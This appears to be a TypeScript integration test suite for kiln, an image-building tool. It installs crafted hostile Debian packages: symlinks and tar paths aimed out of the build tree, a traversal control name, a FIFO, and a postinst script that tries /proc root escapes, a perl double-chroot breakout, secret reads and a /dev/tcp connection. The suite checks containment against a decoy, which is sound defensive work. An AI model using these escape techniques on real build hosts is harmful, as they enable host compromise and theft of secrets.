/**
 * The hostile-package corpus, deb side: real Debian bookworm amd64 builds
 * that also install crafted packages from a signed third component, run as
 * the unprivileged user. Each package tries one way out of the build:
 * symlinks that kiln's own writes would follow, a control name used as a
 * path, a FIFO where kiln reads a file, archive paths that climb out, and
 * maintainer scripts that reach for the host. After every build the host
 * is checked: the user's home (with a decoy directory the packages aim at)
 * unchanged, no process or mount left, no connection to a listener on
 * 127.0.0.1, nothing written into kiln's cache.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { hostMirrorFor } from '../../src/catalog/index.ts';
import { imageDir, integrationSkipReason, isRoot, kiln, TEST_USER, type KilnResult } from '../helpers/kiln.ts';
import { startHostileArchive, type HostileArchive, type HostilePackage, type TarSpecEntry } from '../helpers/hostile-debian.ts';
import { watchHost, type HostWatch } from '../helpers/host-watch.ts';

const mirror = hostMirrorFor('debian');
const skip =
  integrationSkipReason() ??
  (mirror ? undefined : 'the host has no Debian apt source to use as mirror') ??
  (isRoot ? undefined : 'the corpus aims at the test user\'s home: run as root, with KILN_TEST_USER');

const HOME = `/home/${TEST_USER}`;
const DECOY = `${HOME}/kiln-decoy`;
const CACHE = `${HOME}/.cache/kiln`;
const SECRET = 'kiln-decoy-secret-7f3a';
/** Far more `..` than the build tree is deep: climbing stops at /. */
const UP = '../'.repeat(24);

const dir = (name: string): TarSpecEntry => ({ name, type: 'dir' });
const link = (name: string, target: string): TarSpecEntry => ({ name, type: 'symlink', target });
/** The decoy's own directories, shipped inside the tree too, so in-tree tools find a place to write and only native writes that leave the tree would touch the host. */
const decoyDirs = (): TarSpecEntry[] => ['./home/', `.${HOME}/`, `.${DECOY}/`, `.${DECOY}/dbus/`, `.${DECOY}/urandom/`].map(dir);

/** Files kiln writes natively after the packages are in, each a symlink out (absolute or climbing). */
const LINKS: HostilePackage = {
  name: 'evil-links',
  data: [
    dir('./'), dir('./etc/'), dir('./etc/apt/'), dir('./etc/default/'), dir('./usr/'), dir('./usr/sbin/'), dir('./var/'), dir('./var/lib/'), dir('./var/lib/systemd/'),
    ...decoyDirs(),
    link('./etc/hostname', `${DECOY}/hostname`),
    link('./etc/hosts', `${UP}${DECOY.slice(1)}/hosts`),
    link('./etc/apt/sources.list', `${DECOY}/sources.list`),
    link('./usr/sbin/policy-rc.d', `${DECOY}/policy-rc.d`),
    link('./etc/locale.conf', `${DECOY}/locale.conf`),
    link('./etc/default/locale', `${UP}${DECOY.slice(1)}/locale`),
    link('./etc/vconsole.conf', `${DECOY}/vconsole.conf`),
    link('./etc/machine-id', `${DECOY}/machine-id`),
    link('./var/lib/dbus', `${DECOY}/dbus`),
    link('./var/lib/urandom', `${DECOY}/urandom`),
    link('./var/lib/systemd/random-seed', `${DECOY}/random-seed`),
  ],
};

/** /etc/passwd and /etc/group as links out, for kiln's user and group writer. */
const ACCOUNTS: HostilePackage = {
  name: 'evil-accounts',
  data: [dir('./'), dir('./etc/'), ...decoyDirs(), link('./etc/passwd', `${DECOY}/passwd`), link('./etc/group', `${DECOY}/group`)],
};

/** dpkg's status file as a link out: kiln writes it natively during unpack. */
const STATUS: HostilePackage = {
  name: 'evil-status',
  data: [dir('./'), dir('./var/'), dir('./var/lib/'), dir('./var/lib/dpkg/'), ...decoyDirs(), link('./var/lib/dpkg/status', `${DECOY}/status`)],
};

/** A control name that climbs out of /var/lib/dpkg/info. */
const CONTROL_NAME: HostilePackage = {
  name: 'evil-name',
  control: { Package: `${UP}${DECOY.slice(1)}/pwned` },
  data: [dir('./'), dir('./usr/'), dir('./usr/share/')],
};

/** A FIFO where kiln reads the license from. */
const FIFO: HostilePackage = {
  name: 'evil-fifo',
  data: [dir('./'), dir('./usr/'), dir('./usr/share/'), dir('./usr/share/doc/'), dir('./usr/share/doc/evil-fifo/'), { name: './usr/share/doc/evil-fifo/copyright', type: 'fifo' }],
};

/** The extractor's cases: each package tries one trick. */
const EXTRACT: HostilePackage[] = [
  { name: 'evil-dotdot', data: [dir('./'), { name: `./${UP}${DECOY.slice(1)}/dotdot`, type: 'file', content: 'pwned\n' }] },
  { name: 'evil-absolute', data: [dir('./'), { name: `${DECOY}/absolute`, type: 'file', content: 'pwned\n' }] },
  { name: 'evil-hardlink', data: [dir('./'), dir('./etc/'), { name: './etc/evil-hard', type: 'hardlink', target: `${DECOY}/secret` }] },
  { name: 'evil-linkdir', data: [dir('./'), link('./evil-dir', DECOY), { name: './evil-dir/through', type: 'file', content: 'pwned\n' }] },
];

/** Maintainer scripts that reach for the host: its filesystem, the user's secret, kiln's cache, the network. */
function scriptsPackage(port: number): HostilePackage {
  const postinst = `#!/bin/sh
log=/var/log/kiln-hostile.log
try() { if sh -c "$2" >/dev/null 2>&1; then echo "$1: ESCAPED" >> $log; else echo "$1: denied" >> $log; fi; }
try proc-root 'echo pwned > /proc/1/root${DECOY}/proc-root'
try proc-root-cache 'echo pwned > /proc/1/root${CACHE}/pwned-proc-root'
for p in /proc/[0-9]*; do try "proc-any-root-$(basename $p)" "test -e $p/root${DECOY}/secret"; done
try proc-secret 'cat /proc/1/root${DECOY}/secret > /var/log/kiln-hostile-secret'
try double-chroot "perl -e 'mkdir \\"/x\\"; chroot \\"/x\\" or die; chdir \\"..\\" for 1..64; chroot \\".\\" or die; exit(system(\\"/bin/sh\\", \\"-c\\", \\"test -e ${DECOY}/secret && echo pwned > ${DECOY}/double-chroot\\") ? 1 : 0)'"
try network "bash -c 'echo kiln-hostile > /dev/tcp/127.0.0.1/${port}'"
exit 0
`;
  return { name: 'evil-scripts', scripts: { postinst }, data: [dir('./'), dir('./var/'), dir('./var/log/')] };
}

interface Case {
  packages: string[];
  toml?: string;
  /** Exit statuses acceptable for this case (a refusal, or a confined success). */
  codes: number[];
}

describe('hostile Debian packages', { skip }, () => {
  let archive: HostileArchive;
  let listener: Server;
  let port: number;
  const connections: string[] = [];
  let work: string;

  before(async () => {
    listener = createServer((socket) => {
      connections.push(`connection from ${socket.remoteAddress}`);
      socket.destroy();
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    port = (listener.address() as { port: number }).port;
    work = imageDir();
    archive = await startHostileArchive(work, [LINKS, ACCOUNTS, STATUS, CONTROL_NAME, FIFO, ...EXTRACT, scriptsPackage(port)]);
    chmodSync(archive.keyring, 0o644);
  });
  after(async () => {
    await archive?.close();
    await new Promise((resolve) => listener?.close(resolve));
    rmSync(DECOY, { recursive: true, force: true });
    if (work) rmSync(work, { recursive: true, force: true });
  });

  /** A fresh decoy the packages aim at: files, a 0600 secret, directories. */
  function plantDecoy(): void {
    rmSync(DECOY, { recursive: true, force: true });
    mkdirSync(`${DECOY}/dbus`, { recursive: true });
    mkdirSync(`${DECOY}/urandom`, { recursive: true });
    for (const name of ['hostname', 'hosts', 'sources.list', 'policy-rc.d', 'locale.conf', 'locale', 'vconsole.conf', 'machine-id', 'random-seed', 'passwd', 'group', 'status', 'dbus/machine-id', 'urandom/seed']) {
      writeFileSync(join(DECOY, name), `decoy ${name}\n`);
    }
    writeFileSync(join(DECOY, 'secret'), `${SECRET}\n`, { mode: 0o600 });
    spawnSync('chown', ['-R', `${TEST_USER}:`, DECOY]);
  }

  async function buildWith(c: Case): Promise<{ result: KilnResult; watch: HostWatch; dir: string }> {
    plantDecoy();
    const dir = imageDir(`[distribution]
name = "debian"
release = "bookworm"
architecture = "amd64"
mirror = "${archive.url}"
repositories = ["main", "hostile"]
keyring = ["${archive.keyring}"]

[packages]
install = ${JSON.stringify(c.packages)}

${c.toml ?? ''}

[output]
format = ["tar"]
`);
    const watch = watchHost({ dirs: [HOME], skip: [`${HOME}/.cache`, `${HOME}/.npm`], user: TEST_USER });
    const result = await kiln(['build', '-C', dir, '--rebuild'], { timeoutMs: 15 * 60_000 });
    return { result, watch, dir };
  }

  function assertContained(label: string, c: Case, r: { result: KilnResult; watch: HostWatch }): void {
    const { result, watch } = r;
    const out = `\n--- stdout\n${result.stdout.slice(-3000)}\n--- stderr\n${result.stderr.slice(-3000)}`;
    assert.deepEqual(watch.changes(), [], `${label}: the host changed${out}`);
    assert.deepEqual(connections, [], `${label}: a script reached 127.0.0.1${out}`);
    for (const marker of ['pwned-proc-root']) assert.ok(!existsSync(join(CACHE, marker)), `${label}: a script wrote into kiln's cache`);
    assert.ok(c.codes.includes(result.code), `${label}: exit status ${result.code}, expected one of ${c.codes.join(', ')}${out}`);
    if (result.code !== 0) {
      assert.doesNotMatch(result.stderr, /^\s+at /m, `${label}: a stack trace instead of one line${out}`);
      assert.match(result.stderr, /error/i, `${label}: no error line${out}`);
    }
  }

  /** A file of the built image's tar, or undefined. */
  function fromImage(dir: string, path: string): string | undefined {
    const r = spawnSync('tar', ['-xOf', join(dir, 'out/image.tar'), `./${path}`], { encoding: 'utf8' });
    return r.status === 0 ? r.stdout : undefined;
  }

  test('symlinks out of the tree at the files kiln writes: every write stays inside', async () => {
    const c: Case = {
      packages: ['evil-links'],
      toml: `[system]\nhostname = "hostile"\nlocale = "de_DE.UTF-8"\nkeyboard = "de"\n`,
      codes: [0, 1, 2],
    };
    const r = await buildWith(c);
    assertContained('links', c, r);
  });

  test('/etc/passwd and /etc/group as symlinks out, with [[user]] and [[group]]', async () => {
    const c: Case = { packages: ['evil-accounts'], toml: `[[group]]\nname = "gpio"\n\n[[user]]\nname = "pi"\ngroups = ["gpio"]\n`, codes: [0, 1, 2] };
    assertContained('accounts', c, await buildWith(c));
  });

  test("dpkg's status file as a symlink out", async () => {
    const c: Case = { packages: ['evil-status'], codes: [0, 1, 2] };
    assertContained('status', c, await buildWith(c));
  });

  test('a control Package: field that climbs out of /var/lib/dpkg/info is refused before anything is written', async () => {
    const c: Case = { packages: ['evil-name'], codes: [1, 2] };
    const r = await buildWith(c);
    assertContained('control name', c, r);
    assert.match(r.result.stderr, /evil-name/);
  });

  test('a FIFO as the copyright file does not hang the build', async () => {
    const c: Case = { packages: ['evil-fifo'], codes: [0] };
    const r = await buildWith(c);
    assertContained('fifo', c, r);
  });

  for (const p of EXTRACT) {
    test(`archive paths: ${p.name} is refused or confined`, async () => {
      const c: Case = { packages: [p.name], codes: [0, 1, 2] };
      assertContained(p.name, c, await buildWith(c));
    });
  }

  test('maintainer scripts see only the tree: no host filesystem through /proc, no double chroot, no secret, no network', async () => {
    const c: Case = { packages: ['evil-scripts'], codes: [0] };
    const r = await buildWith(c);
    assertContained('scripts', c, r);
    const log = fromImage(r.dir, 'var/log/kiln-hostile.log') ?? '';
    assert.ok(log.includes('proc-root: denied'), `the script log: ${log}`);
    assert.doesNotMatch(log, /ESCAPED/, `the script log: ${log}`);
    assert.ok(!(fromImage(r.dir, 'var/log/kiln-hostile-secret') ?? '').includes(SECRET), 'the secret reached the image');
  });
});
